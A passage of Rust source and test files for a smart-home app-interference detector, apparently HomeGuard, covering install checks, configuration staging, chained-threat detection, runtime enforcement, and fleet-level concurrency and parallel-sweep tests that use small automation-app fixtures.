            store,
            modes: vec!["Home".into(), "Away".into(), "Night".into()],
            policy: UnificationPolicy::Auto,
            chain_depth: 4,
            config: Vec::new(),
            handling: PolicyTable::default(),
        }
    }

    /// Sets the home's location modes.
    pub fn modes<I, S>(mut self, modes: I) -> HomeBuilder
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.modes = modes.into_iter().map(Into::into).collect();
        self
    }

    /// Sets the device-slot unification policy.
    pub fn unification(mut self, policy: UnificationPolicy) -> HomeBuilder {
        self.policy = policy;
        self
    }

    /// Sets the maximum chained-threat length in edges (§VI-D).
    pub fn chain_depth(mut self, edges: usize) -> HomeBuilder {
        self.chain_depth = edges.max(2);
        self
    }

    /// Pre-records configuration information collected before the session
    /// started (e.g. replayed from the configuration recorder's log).
    pub fn record_config(mut self, info: ConfigInfo) -> HomeBuilder {
        self.config.push(info);
        self
    }

    /// Sets the runtime handling policies the session's enforcer applies
    /// per threat kind (see [`Home::enforcer`]).
    pub fn handling_policy(mut self, table: PolicyTable) -> HomeBuilder {
        self.handling = table;
        self
    }

    /// Builds the session handle.
    pub fn build(self) -> Home {
        let mut home = Home {
            store: self.store,
            engine: DetectionEngine::default(),
            bindings: BTreeMap::new(),
            values: BTreeMap::new(),
            allowed: Vec::new(),
            modes: self.modes,
            policy: self.policy,
            chain_depth: self.chain_depth,
            handling: self.handling,
        };
        for info in &self.config {
            home.absorb_config(info);
        }
        home.engine = DetectionEngine::new(home.detector());
        home
    }
}

/// A per-home HomeGuard session: recorders plus the incremental detection
/// engine, borrowing the shared rule store.
pub struct Home {
    store: Arc<RuleStore>,
    engine: DetectionEngine,
    /// Configuration recorder: device bindings per (app, input).
    bindings: BTreeMap<(String, String), String>,
    /// Configuration recorder: user values per (app, input).
    values: BTreeMap<(String, String), Value>,
    /// Pairwise interferences the user accepted (the Allowed list, §VI-D).
    allowed: Vec<Threat>,
    modes: Vec<String>,
    policy: UnificationPolicy,
    chain_depth: usize,
    /// Runtime handling policies for the session's enforcer.
    handling: PolicyTable,
}

/// The outcome of an installation attempt, shown to the user by the
/// frontend before they decide.
#[derive(Debug, Clone)]
pub struct InstallReport {
    /// The app under installation.
    pub app: String,
    /// Its rules, for the frontend's rule interpreter.
    pub rules: Vec<Rule>,
    /// Direct (pairwise) threats against installed apps.
    pub threats: Vec<Threat>,
    /// Chained threats through the Allowed list.
    pub chains: Vec<Chain>,
    /// Detection effort counters.
    pub stats: DetectStats,
    /// Whether the rules were recorded as installed (clean installs
    /// auto-confirm; dirty ones await [`Home::confirm_install`]).
    pub installed: bool,
    /// Configuration staged with this install attempt. It is recorded
    /// permanently only on confirmation, so a rejected install leaves the
    /// configuration recorder untouched.
    pub config: Option<ConfigInfo>,
}

impl InstallReport {
    /// Whether the installation is clean.
    pub fn is_clean(&self) -> bool {
        self.threats.is_empty() && self.chains.is_empty()
    }
}

impl Home {
    /// A session with deployment defaults against `store`.
    pub fn new(store: Arc<RuleStore>) -> Home {
        HomeBuilder::new(store).build()
    }

    /// A builder for a customized session.
    pub fn builder(store: Arc<RuleStore>) -> HomeBuilder {
        HomeBuilder::new(store)
    }

    /// The shared store this home installs from.
    pub fn store(&self) -> &Arc<RuleStore> {
        &self.store
    }

    /// The home's location modes.
    pub fn modes(&self) -> &[String] {
        &self.modes
    }

    /// The detector matching the current recorders and policy.
    fn detector(&self) -> Detector {
        let unification = match self.policy {
            UnificationPolicy::ByType => Unification::ByType,
            UnificationPolicy::Auto => {
                if self.bindings.is_empty() {
                    Unification::ByType
                } else {
                    Unification::Bindings(self.bindings.clone())
                }
            }
        };
        let mut det = Detector {
            unification,
            ..Detector::default()
        };
        det.solver.modes = self.modes.clone();
        det.solver.user_values = self.values.clone();
        det
    }

    fn absorb_config(&mut self, info: &ConfigInfo) {
        for (input, id) in &info.devices {
            self.bindings
                .insert((info.app.clone(), input.clone()), id.clone());
        }
        for (input, value) in &info.values {
            self.values
                .insert((info.app.clone(), input.clone()), value.clone());
        }
    }

    /// Records collected configuration information (what the instrumented
    /// app's URI delivers) and re-prepares the detection state against the
    /// updated bindings.
    pub fn record_config(&mut self, info: &ConfigInfo) {
        self.absorb_config(info);
        self.engine.reconfigure(self.detector());
    }

    /// Checks an app (already ingested into the store, with configuration
    /// recorded) against the installed apps. Does **not** install it — the
    /// user decides based on the report.
    pub fn check_install(&self, app: &str) -> InstallReport {
        let rules = self.store.rules_of(app).unwrap_or_default();
        let (threats, stats) = self.engine.check(&rules);
        let chains = self.chains_for(app, &threats);
        InstallReport {
            app: app.to_string(),
            rules,
            threats,
            chains,
            stats,
            installed: false,
            config: None,
        }
    }

    /// Batch check: the verdicts a user would see installing `apps` in
    /// order (each member is checked against the installed population plus
    /// the preceding batch members). Nothing is installed.
    pub fn check_install_many(&self, apps: &[&str]) -> Vec<InstallReport> {
        let rule_sets: Vec<Vec<Rule>> = apps
            .iter()
            .map(|app| self.store.rules_of(app).unwrap_or_default())
            .collect();
        let borrowed: Vec<&[Rule]> = rule_sets.iter().map(Vec::as_slice).collect();
        let raw = self.engine.check_many(&borrowed);
        let mut allowed_edges = Edge::from_threats(&self.allowed);
        let mut out = Vec::with_capacity(apps.len());
        for ((app, rules), (threats, stats)) in apps.iter().zip(rule_sets).zip(raw) {
            // Chains may pass through earlier batch members' fresh threats.
            allowed_edges.extend(Edge::from_threats(&threats));
            let chains = find_chains(&allowed_edges, self.chain_depth)
                .into_iter()
                .filter(|c| c.rules.iter().any(|r| r.app == *app))
                .collect();
            out.push(InstallReport {
                app: app.to_string(),
                rules,
                threats,
                chains,
                stats,
                installed: false,
                config: None,
            });
        }
        out
    }

    /// Chained detection through the Allowed list (§VI-D): edges from the
    /// new findings plus the user-allowed historical pairs.
    fn chains_for(&self, app: &str, threats: &[Threat]) -> Vec<Chain> {
        let mut edges = Edge::from_threats(threats);
        edges.extend(Edge::from_threats(&self.allowed));
        find_chains(&edges, self.chain_depth)
            .into_iter()
            .filter(|c| c.rules.iter().any(|r| r.app == app))
            .collect()
    }

    /// The user decided to install despite the report: the staged
    /// configuration (if any) is recorded permanently, rules are recorded,
    /// and the reported pairwise threats move to the Allowed list.
    pub fn confirm_install(&mut self, mut report: InstallReport) -> InstallReport {
        if let Some(info) = &report.config {
            self.record_config(info);
        }
        self.engine.install_rules(report.rules.iter());
        self.allowed.extend(report.threats.iter().cloned());
        report.installed = true;
        report
    }

    /// Ingests + records configuration + checks, and **confirms only if
    /// clean**. A dirty report is returned with
    /// [`installed == false`](InstallReport::installed): nothing was
    /// recorded, and the caller decides — [`Home::confirm_install`] to
    /// accept the interference, or drop the report to reject the app.
    ///
    /// # Errors
    ///
    /// Propagates extraction failures.
    pub fn install_app(
        &mut self,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, ExtractError> {
        let report = self.stage_install(source, name, config)?;
        if report.is_clean() {
            Ok(self.confirm_install(report))
        } else {
            Ok(report)
        }
    }

    /// Ingests + records configuration + checks + confirms unconditionally,
    /// returning the (possibly dirty) report. This is the scripted-
    /// experiment path: the "user" accepts every interference, so threats
    /// land on the Allowed list exactly as §VI-D's chained detection needs.
    ///
    /// # Errors
    ///
    /// Propagates extraction failures.
    pub fn install_app_forced(
        &mut self,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, ExtractError> {
        let report = self.stage_install(source, name, config)?;
        Ok(self.confirm_install(report))
    }

    /// Ingests and checks under the staged configuration, then restores
    /// the recorder: recording becomes permanent only on confirmation, so
    /// a rejected install cannot leave bindings behind (which would change
    /// how *other* apps' slots unify from then on).
    fn stage_install(
        &mut self,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, ExtractError> {
        let analysis = self.store.ingest(source, name)?;
        let app_name = analysis.name.clone();
        let saved = config.map(|info| {
            let snapshot = (self.bindings.clone(), self.values.clone());
            self.record_config(info);
            snapshot
        });
        let mut report = self.check_install(&app_name);
        report.config = config.cloned();
        if let Some((bindings, values)) = saved {
            self.bindings = bindings;
            self.values = values;
            self.engine.reconfigure(self.detector());
        }
        Ok(report)
    }

    /// All installed rules, in install order.
    pub fn installed_rules(&self) -> Vec<&Rule> {
        self.engine.installed_rules().collect()
    }

    /// The Allowed list.
    pub fn allowed(&self) -> &[Threat] {
        &self.allowed
    }

    /// The incremental detection engine (for inspection and benches).
    pub fn engine(&self) -> &DetectionEngine {
        &self.engine
    }

    /// The session's runtime handling policies.
    pub fn handling_policy(&self) -> &PolicyTable {
        &self.handling
    }

    /// Compiles the session's confirmed-install threat set (the Allowed
    /// list) into a runtime mediation engine, ready to be installed into
    /// an event loop (e.g. `hg_sim::Home::set_mediator`).
    ///
    /// Every interference the user knowingly accepted at install time
    /// becomes a mediation point, keyed the way the detection index keys
    /// candidates, and handled per the session's
    /// [`PolicyTable`] — so "allowed" means *mediated at runtime*, not
    /// *ignored*.
    pub fn enforcer(&self) -> SharedEnforcer {
        let rules: Vec<Rule> = self.installed_rules().into_iter().cloned().collect();
        let unification = self.detector().unification;
        SharedEnforcer::new(Enforcer::from_threats(
            &self.allowed,
            &rules,
            &unification,
            &self.handling,
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hg_detector::ThreatKind;

    const ON_APP: &str = r#"
definition(name: "OnApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

    const OFF_APP: &str = r#"
definition(name: "OffApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;

    #[test]
    fn first_install_is_clean_and_confirmed() {
        let mut home = Home::new(RuleStore::shared());
        let report = home.install_app(ON_APP, "OnApp", None).unwrap();
        assert!(report.is_clean());
        assert!(report.installed);
        assert_eq!(home.installed_rules().len(), 1);
    }

    #[test]
    fn dirty_install_requires_explicit_confirmation() {
        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        let report = home.install_app(OFF_APP, "OffApp", None).unwrap();
        assert!(!report.is_clean());
        assert!(!report.installed, "dirty installs must not auto-confirm");
        assert!(report
            .threats
            .iter()
            .any(|t| t.kind == ThreatKind::ActuatorRace));
        assert_eq!(home.installed_rules().len(), 1, "OffApp not recorded yet");
        assert!(home.allowed().is_empty());

        let report = home.confirm_install(report);
        assert!(report.installed);
        assert_eq!(home.installed_rules().len(), 2);
        assert!(
            !home.allowed().is_empty(),
            "threats moved to the Allowed list"
        );
    }

    #[test]
    fn forced_install_confirms_dirty_reports() {
        let mut home = Home::new(RuleStore::shared());
        home.install_app_forced(ON_APP, "OnApp", None).unwrap();
        let report = home.install_app_forced(OFF_APP, "OffApp", None).unwrap();
        assert!(!report.is_clean());
        assert!(report.installed);
        assert_eq!(home.installed_rules().len(), 2);
        assert!(!home.allowed().is_empty());
    }

    #[test]
    fn config_bindings_change_verdict() {
        let mut home = Home::new(RuleStore::shared());
        let cfg_a = ConfigInfo::new("OnApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-1");
        home.install_app(ON_APP, "OnApp", Some(&cfg_a)).unwrap();
        // OffApp bound to a DIFFERENT lamp: no race.
        let cfg_b = ConfigInfo::new("OffApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-2");
        let report = home.install_app(OFF_APP, "OffApp", Some(&cfg_b)).unwrap();
        assert!(
            !report
                .threats
                .iter()
                .any(|t| t.kind == ThreatKind::ActuatorRace),
            "{:#?}",
            report.threats
        );
    }

    #[test]
    fn rejected_install_reverts_staged_config() {
        // A dirty install staged with bindings is rejected: the bindings
        // must not linger, or they would silently flip the Auto policy
        // from by-type to bindings unification for every later check.
        let mut home = Home::new(RuleStore::shared());
        home.install_app(ON_APP, "OnApp", None).unwrap();
        let cfg = ConfigInfo::new("OffApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-2");
        let report = home.install_app(OFF_APP, "OffApp", Some(&cfg)).unwrap();
        assert!(!report.installed, "{:#?}", report.threats);
        drop(report); // user rejects the app

        // Under restored by-type unification the race must still surface.
        let check = home.check_install("OffApp");
        assert!(
            check
                .threats
                .iter()
                .any(|t| t.kind == ThreatKind::ActuatorRace),
            "bindings leaked from the rejected install: {:#?}",
            check.threats
        );
    }

    #[test]
    fn confirmed_install_applies_staged_config() {
        let mut home = Home::new(RuleStore::shared());
        let cfg_a = ConfigInfo::new("OnApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-1");
        home.install_app(ON_APP, "OnApp", Some(&cfg_a)).unwrap();
        let cfg_b = ConfigInfo::new("OffApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-1");
        let report = home.install_app(OFF_APP, "OffApp", Some(&cfg_b)).unwrap();
        assert!(!report.installed);
        let report = home.confirm_install(report);
        assert!(report.installed);
        // Both apps' bindings are now permanent: a same-lamp re-check of a
        // third identical app still races under bindings unification.
        let check = home.check_install("OffApp");
        assert!(
            check
                .threats
                .iter()
                .any(|t| t.kind == ThreatKind::ActuatorRace),
            "{:#?}",
            check.threats
        );
    }

    #[test]
    fn chained_detection_through_allowed_list() {
        // App1: motion -> switch on. App2: switch on -> mode Home.
        // App3: mode change -> unlock door. Installing all three must
        // surface the 3-rule covert chain at App3's install.
        let app1 = r#"
definition(name: "MotionSwitch")
input "m", "capability.motionSensor"
input "sw", "capability.switch", title: "hall switch"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { sw.on() }
"#;
        let app2 = r#"
definition(name: "SwitchMode")
input "sw", "capability.switch", title: "hall switch"
def installed() { subscribe(sw, "switch.on", h) }
def h(evt) { setLocationMode("Home") }
"#;
        let app3 = r#"
definition(name: "ModeUnlock")
input "door", "capability.lock", title: "front door"
def installed() { subscribe(location, "mode", h) }
def h(evt) { if (location.mode == "Home") { door.unlock() } }
"#;
        let mut home = Home::new(RuleStore::shared());
        home.install_app_forced(app1, "MotionSwitch", None).unwrap();
        home.install_app_forced(app2, "SwitchMode", None).unwrap();
        let report = home.install_app_forced(app3, "ModeUnlock", None).unwrap();
        assert!(
            !report.chains.is_empty(),
            "expected a covert chain, threats: {:#?}",
            report.threats
        );
        let chain = &report.chains[0];
        assert!(chain.rules.len() >= 3, "{chain}");
    }

    #[test]
    fn two_homes_share_one_store() {
        let store = RuleStore::shared();
        let mut alice = Home::new(store.clone());
        let mut bob = Home::builder(store.clone()).modes(["Day", "Night"]).build();

        alice.install_app(ON_APP, "OnApp", None).unwrap();
        // Bob installs the same store app: extraction is served from cache,
        // and his home is clean because HIS home has no competing rule.
        let report = bob.install_app(ON_APP, "OnApp", None).unwrap();
        assert!(report.is_clean());
        assert!(store.cache_hits() >= 1);
        assert_eq!(store.len(), 1);

        // Interference stays per-home: OffApp races in Alice's home...
        let dirty = alice.install_app(OFF_APP, "OffApp", None).unwrap();
        assert!(!dirty.is_clean());
        // ...but Bob's session state is untouched by Alice's verdicts.
        assert_eq!(bob.installed_rules().len(), 1);
        assert!(bob.allowed().is_empty());
    }

    #[test]
    fn session_threats_flow_into_the_runtime_enforcer() {
        use hg_capability::device_kind::DeviceKind;
        use hg_runtime::PolicyTable;

        let mut home = Home::builder(RuleStore::shared())
            .handling_policy(PolicyTable::block_all())
            .build();
        home.install_app_forced(ON_APP, "OnApp", None).unwrap();
        home.install_app_forced(OFF_APP, "OffApp", None).unwrap();
        assert!(!home.allowed().is_empty());

        // The confirmed-install threat set compiles straight into mediation
        // points...
        let enforcer = home.enforcer();
        assert!(enforcer.with(|e| !e.index().is_empty()));

        // ...and the enforcer sits inline in a simulated home: of the two
        // racing rules, exactly one acts per run.
        let unify = Unification::ByType;
        let mut sim = hg_sim::Home::new(11);
        sim.add_device(hg_sim::Device::new(
            "type:motionSensor/unknown",
            "motion",
            "motionSensor",
            DeviceKind::Unknown,
        ));
        sim.add_device(hg_sim::Device::new(
            "type:switch/light",
            "lamp",
            "switch",
            DeviceKind::Light,
        ));
        for rule in home.installed_rules() {
            sim.install_rule(unify.unify_rule(rule));
        }
        sim.set_mediator(enforcer.mediator());
        sim.stimulate(
            "type:motionSensor/unknown",
            "motion",
            Value::Sym("active".into()),
        );
        assert!(
            sim.fired("OnApp#0") != sim.fired("OffApp#0"),
            "exactly one racing rule must act, trace: {:#?}",
            sim.trace
        );
        assert_eq!(enforcer.journal().len(), 1);
        assert_eq!(enforcer.stats().mediated, 1);
    }

    #[test]
    fn check_install_many_matches_sequential_installs() {
        let store = RuleStore::shared();
        store.ingest(ON_APP, "OnApp").unwrap();
        store.ingest(OFF_APP, "OffApp").unwrap();
        let home = Home::builder(store.clone()).build();
        let reports = home.check_install_many(&["OnApp", "OffApp"]);
        assert_eq!(reports.len(), 2);
        assert!(reports[0].is_clean());
        assert!(reports[1]
            .threats
            .iter()
            .any(|t| t.kind == ThreatKind::ActuatorRace));
        // check does not install.
        assert!(home.installed_rules().is_empty());
    }
}
