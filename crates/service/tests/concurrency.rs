//! Fleet concurrency: 8 threads drive seeded install / uninstall /
//! upgrade / check scripts across 256 homes through one shared `Fleet`,
//! interleaving arbitrarily across shards. The run must (a) terminate —
//! no deadlock between shard locks and the shared store — and (b) leave
//! every home in exactly the state a serial replay of its script produces
//! on a plain `homeguard-core` session.
//!
//! Thread ownership is strided (thread t owns homes t, t+8, t+16, …)
//! while shard routing is modular, so every thread hammers every shard.

use hg_service::{Fleet, HgError, HomeId, RuleStore};
use std::sync::Arc;

const HOMES: usize = 256;
const THREADS: usize = 8;
const STEPS: usize = 10;

/// The app palette: four racing/unrelated automations plus a v2 for
/// upgrades. `(name, source)` per slot.
fn palette() -> Vec<(String, String)> {
    let combos = [
        ("motionSensor", "motion", "active", "switch", "lamp", "on"),
        ("motionSensor", "motion", "active", "switch", "lamp", "off"),
        ("contactSensor", "contact", "open", "lock", "door", "unlock"),
        (
            "waterSensor",
            "water",
            "wet",
            "valve",
            "main valve",
            "close",
        ),
        ("contactSensor", "contact", "open", "lock", "door", "lock"),
        (
            "motionSensor",
            "motion",
            "active",
            "alarm",
            "siren",
            "siren",
        ),
    ];
    combos
        .iter()
        .enumerate()
        .map(|(i, (s_cap, s_attr, s_val, a_cap, a_title, cmd))| {
            let name = format!("Pal{i}");
            let source = format!(
                r#"
definition(name: "{name}")
input "t", "capability.{s_cap}"
input "a", "capability.{a_cap}", title: "{a_title}"
def installed() {{ subscribe(t, "{s_attr}.{s_val}", h) }}
def h(evt) {{ a.{cmd}() }}
"#
            );
            (name, source)
        })
        .collect()
}

/// v2 of a palette app: behaviorally identical but textually distinct, so
/// the upgrade re-extracts (new fingerprint) while staying name-stable.
fn palette_v2(source: &str) -> String {
    format!("{source}// v2\n")
}

#[derive(Clone, Copy, Debug)]
enum Op {
    InstallForced(usize),
    Uninstall(usize),
    UpgradeForced(usize),
    Check(usize),
}

/// SplitMix64, as in the sibling fuzz harnesses.
fn mix(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// The seeded per-home op script. Pure function of the home index, so the
/// concurrent run and the serial replay derive identical scripts.
fn script(home: usize) -> Vec<Op> {
    let palette_len = palette().len();
    (0..STEPS)
        .map(|step| {
            let r = mix((home as u64) << 32 | step as u64);
            let app = (r >> 8) as usize % palette_len;
            match r % 4 {
                0 | 1 => Op::InstallForced(app),
                2 => {
                    if r & 0x10 != 0 {
                        Op::Uninstall(app)
                    } else {
                        Op::UpgradeForced(app)
                    }
                }
                _ => Op::Check(app),
            }
        })
        .collect()
}

/// A comparable digest of one op's outcome.
fn digest_install(report: &Result<hg_service::InstallReport, HgError>) -> String {
    match report {
        Ok(r) => format!(
            "ok:installed={} threats={} chains={}",
            r.installed,
            r.threats.len(),
            r.chains.len()
        ),
        Err(e) => format!("err:{}", variant(e)),
    }
}

fn variant(e: &HgError) -> &'static str {
    match e {
        HgError::Extract { .. } => "extract",
        HgError::Parse { .. } => "parse",
        HgError::UnknownHome(_) => "unknown-home",
        HgError::UnknownApp(_) => "unknown-app",
        HgError::UnconfirmedInstall(_) => "unconfirmed",
        HgError::AlreadyInstalled(_) => "already-installed",
        HgError::UpgradeRenames { .. } => "renames",
        HgError::Poisoned(_) => "poisoned",
        _ => "other",
    }
}

/// Runs one home's script against the fleet, returning the op digests and
/// the final state digest.
fn run_script(fleet: &Fleet, id: HomeId, home: usize, apps: &[(String, String)]) -> Vec<String> {
    let mut out = Vec::new();
    for op in script(home) {
        let digest = match op {
            Op::InstallForced(a) => {
                let (name, source) = &apps[a];
                digest_install(&fleet.install_app_forced(id, source, name, None))
            }
            Op::Uninstall(a) => match fleet.uninstall_app(id, &apps[a].0) {
                Ok(r) => format!(
                    "ok:removed={} retired={}",
                    r.removed_rules.len(),
                    r.retired_threats
                ),
                Err(e) => format!("err:{}", variant(&e)),
            },
            Op::UpgradeForced(a) => {
                let (name, source) = &apps[a];
                digest_install(&fleet.upgrade_app(id, &palette_v2(source), name, None))
            }
            Op::Check(a) => match fleet.check_install(id, &apps[a].0) {
                Ok(r) => format!("ok:threats={} chains={}", r.threats.len(), r.chains.len()),
                Err(e) => format!("err:{}", variant(&e)),
            },
        };
        out.push(digest);
    }
    // Final state digest: surviving apps + Allowed size.
    let final_state = fleet
        .with_home(id, |h| {
            format!(
                "apps={:?} allowed={}",
                h.installed_apps(),
                h.allowed().len()
            )
        })
        .unwrap();
    out.push(final_state);
    out
}

/// Publishes every palette app (v1 and v2) into a fleet's store — the
/// store-before-install deployment order. Without this, a `Check` op's
/// verdict would depend on whether *some other home* already ingested the
/// app, making per-home scripts non-deterministic across interleavings.
fn publish_palette(fleet: &Fleet, apps: &[(String, String)]) {
    for (name, source) in apps {
        fleet.store().ingest(source, name).unwrap();
        fleet.store().ingest(&palette_v2(source), name).unwrap();
    }
}

#[test]
fn eight_threads_over_256_homes_match_serial_replay() {
    let apps = Arc::new(palette());

    // Concurrent run: one fleet, 8 shards, 8 threads with strided home
    // ownership (every thread touches every shard).
    let fleet = Arc::new(Fleet::builder(RuleStore::shared()).shards(THREADS).build());
    publish_palette(&fleet, &apps);
    let ids: Vec<HomeId> = (0..HOMES).map(|_| fleet.create_home().unwrap()).collect();
    assert_eq!(fleet.len(), HOMES);

    let mut handles = Vec::new();
    for t in 0..THREADS {
        let fleet = fleet.clone();
        let ids = ids.clone();
        let apps = apps.clone();
        handles.push(std::thread::spawn(move || {
            let mut results = Vec::new();
            for home in (t..HOMES).step_by(THREADS) {
                results.push((home, run_script(&fleet, ids[home], home, &apps)));
            }
            results
        }));
    }
    let mut concurrent: Vec<Vec<String>> = vec![Vec::new(); HOMES];
    for handle in handles {
        for (home, digests) in handle.join().expect("no thread may die") {
            concurrent[home] = digests;
        }
    }

    // Serial replay: same scripts against plain single-threaded sessions
    // in a fresh single-shard fleet.
    let serial_fleet = Fleet::builder(RuleStore::shared()).shards(1).build();
    publish_palette(&serial_fleet, &apps);
    let serial_ids: Vec<HomeId> = (0..HOMES)
        .map(|_| serial_fleet.create_home().unwrap())
        .collect();
    for home in 0..HOMES {
        let expected = run_script(&serial_fleet, serial_ids[home], home, &apps);
        assert_eq!(
            concurrent[home], expected,
            "home {home}: concurrent outcome diverges from serial replay"
        );
    }

    // The palette was actually exercised in every flavor.
    let all: Vec<&String> = concurrent.iter().flatten().collect();
    assert!(all.iter().any(|d| d.contains("threats=1")), "races seen");
    assert!(
        all.iter().any(|d| d.starts_with("ok:removed=")),
        "uninstalls succeeded somewhere"
    );
    assert!(
        all.iter()
            .any(|d| d.contains("err:unconfirmed") || d.contains("err:unknown-app")),
        "lifecycle errors exercised"
    );
    // One extraction per palette app + v2 variants; everything else came
    // from the shared ingest cache.
    assert!(fleet.store().cache_hits() > HOMES as u64);
}
