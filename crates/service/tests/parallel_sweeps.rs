//! Parallel fleet sweeps vs. the serial path.
//!
//! `install_many`, `propagate_upgrade` and `force_uninstall` fan out one
//! worker per shard. These tests prepare two identically-populated fleets
//! and assert the parallel sweep's reports are **identical** to a serial
//! per-home replay — ordered by `HomeId` — including pending/dirty
//! reports, skip counts, and the store-retirement side effects.

use hg_service::{Fleet, HomeId, RuleStore};

/// Pins the threaded sweep path on, regardless of the host's core count
/// (the whole point here is to exercise the parallel fan-out). Called at
/// the top of every test; an atomic store, so concurrent test threads are
/// fine (unlike mutating the process environment, which would race the
/// harness's own `getenv` calls).
fn force_parallel() {
    hg_service::override_sweep_parallelism(Some(true));
}

const ON_APP: &str = r#"
definition(name: "OnApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

const OFF_APP: &str = r#"
definition(name: "OffApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;

/// A fleet of `homes` homes over `shards` shards, every home running
/// OnApp, every third home additionally running the conflicting OffApp.
fn populated(homes: usize, shards: usize) -> (Fleet, Vec<HomeId>) {
    let fleet = Fleet::builder(RuleStore::shared()).shards(shards).build();
    let ids: Vec<HomeId> = (0..homes).map(|_| fleet.create_home()).collect();
    for result in fleet.install_many(&ids, ON_APP, "OnApp", None).unwrap() {
        assert!(result.1.unwrap().installed);
    }
    for id in ids.iter().step_by(3) {
        fleet
            .install_app_forced(*id, OFF_APP, "OffApp", None)
            .unwrap();
    }
    (fleet, ids)
}

#[test]
fn install_many_matches_serial_install_loop_in_request_order() {
    force_parallel();
    let parallel = Fleet::builder(RuleStore::shared()).shards(8).build();
    let serial = Fleet::builder(RuleStore::shared()).shards(8).build();
    let p_ids: Vec<HomeId> = (0..64).map(|_| parallel.create_home()).collect();
    let s_ids: Vec<HomeId> = (0..64).map(|_| serial.create_home()).collect();

    // Mixed request: every home once, one duplicate (second attempt must
    // report AlreadyInstalled in both paths), deliberately shuffled order.
    let mut request: Vec<HomeId> = p_ids.iter().rev().copied().collect();
    request.push(p_ids[5]);
    let mut serial_request: Vec<HomeId> = s_ids.iter().rev().copied().collect();
    serial_request.push(s_ids[5]);

    let outcomes = parallel
        .install_many(&request, ON_APP, "OnApp", None)
        .unwrap();
    serial.store().ingest(ON_APP, "OnApp").unwrap();
    let reference: Vec<_> = serial_request
        .iter()
        .map(|&id| (id, serial.install_app(id, ON_APP, "OnApp", None)))
        .collect();

    assert_eq!(outcomes.len(), reference.len());
    for (pos, ((pid, pres), (sid, sres))) in outcomes.iter().zip(&reference).enumerate() {
        assert_eq!(request[pos], *pid, "outcomes must keep request order");
        assert_eq!(pid.raw(), sid.raw());
        match (pres, sres) {
            (Ok(a), Ok(b)) => {
                assert_eq!(a.installed, b.installed, "position {pos}");
                assert_eq!(a.threats, b.threats, "position {pos}");
            }
            (Err(a), Err(b)) => assert_eq!(format!("{a}"), format!("{b}"), "position {pos}"),
            (a, b) => panic!("position {pos}: {a:?} vs {b:?}"),
        }
    }
}

#[test]
fn propagate_upgrade_matches_serial_per_home_replay() {
    force_parallel();
    let (parallel, _) = populated(48, 8);
    let (serial, serial_ids) = populated(48, 8);

    let v2 = format!("{ON_APP}// v2\n");
    let rollout = parallel.propagate_upgrade(&v2, "OnApp").unwrap();

    // Serial reference: walk every home in id order through the same
    // upgrade (publishing first, exactly as the rollout does).
    serial.store().ingest_as(&v2, "OnApp").unwrap();
    let mut ref_upgraded = Vec::new();
    let mut ref_pending = Vec::new();
    let mut ref_skipped = 0usize;
    for &id in &serial_ids {
        let installed = serial.with_home(id, |h| h.is_installed("OnApp")).unwrap();
        if !installed {
            ref_skipped += 1;
            continue;
        }
        let report = serial.upgrade_app(id, &v2, "OnApp", None).unwrap();
        if report.installed {
            ref_upgraded.push(id);
        } else {
            ref_pending.push((id, report));
        }
    }

    assert_eq!(rollout.upgraded, ref_upgraded, "clean homes diverge");
    assert_eq!(rollout.skipped, ref_skipped);
    assert!(rollout.failed.is_empty());
    assert_eq!(rollout.poisoned_shards, 0);
    assert_eq!(
        rollout.pending.len(),
        ref_pending.len(),
        "pending homes diverge"
    );
    for ((pid, preport), (sid, sreport)) in rollout.pending.iter().zip(&ref_pending) {
        assert_eq!(pid.raw(), sid.raw());
        assert_eq!(preport.threats, sreport.threats);
        assert_eq!(preport.replaces, sreport.replaces);
    }

    // Deterministic merge: every report vector is in ascending id order.
    assert!(rollout.upgraded.windows(2).all(|w| w[0] < w[1]));
    assert!(rollout.pending.windows(2).all(|w| w[0].0 < w[1].0));

    // Re-running the rollout is deterministic as well.
    let v3 = format!("{ON_APP}// v3\n");
    let again = parallel.propagate_upgrade(&v3, "OnApp").unwrap();
    assert_eq!(again.upgraded, rollout.upgraded);
    assert_eq!(
        again.pending.iter().map(|(id, _)| *id).collect::<Vec<_>>(),
        rollout
            .pending
            .iter()
            .map(|(id, _)| *id)
            .collect::<Vec<_>>()
    );
}

#[test]
fn force_uninstall_matches_serial_per_home_replay() {
    force_parallel();
    let (parallel, _) = populated(48, 8);
    let (serial, serial_ids) = populated(48, 8);

    let outcome = parallel.force_uninstall("OffApp");

    let mut ref_removed = Vec::new();
    let mut ref_skipped = 0usize;
    for &id in &serial_ids {
        let installed = serial.with_home(id, |h| h.is_installed("OffApp")).unwrap();
        if !installed {
            ref_skipped += 1;
            continue;
        }
        ref_removed.push((id, serial.uninstall_app(id, "OffApp").unwrap()));
    }
    serial.store().retire_app("OffApp");

    assert_eq!(outcome.removed.len(), ref_removed.len());
    assert_eq!(outcome.skipped, ref_skipped);
    assert!(outcome.failed.is_empty());
    assert!(outcome.store_retired);
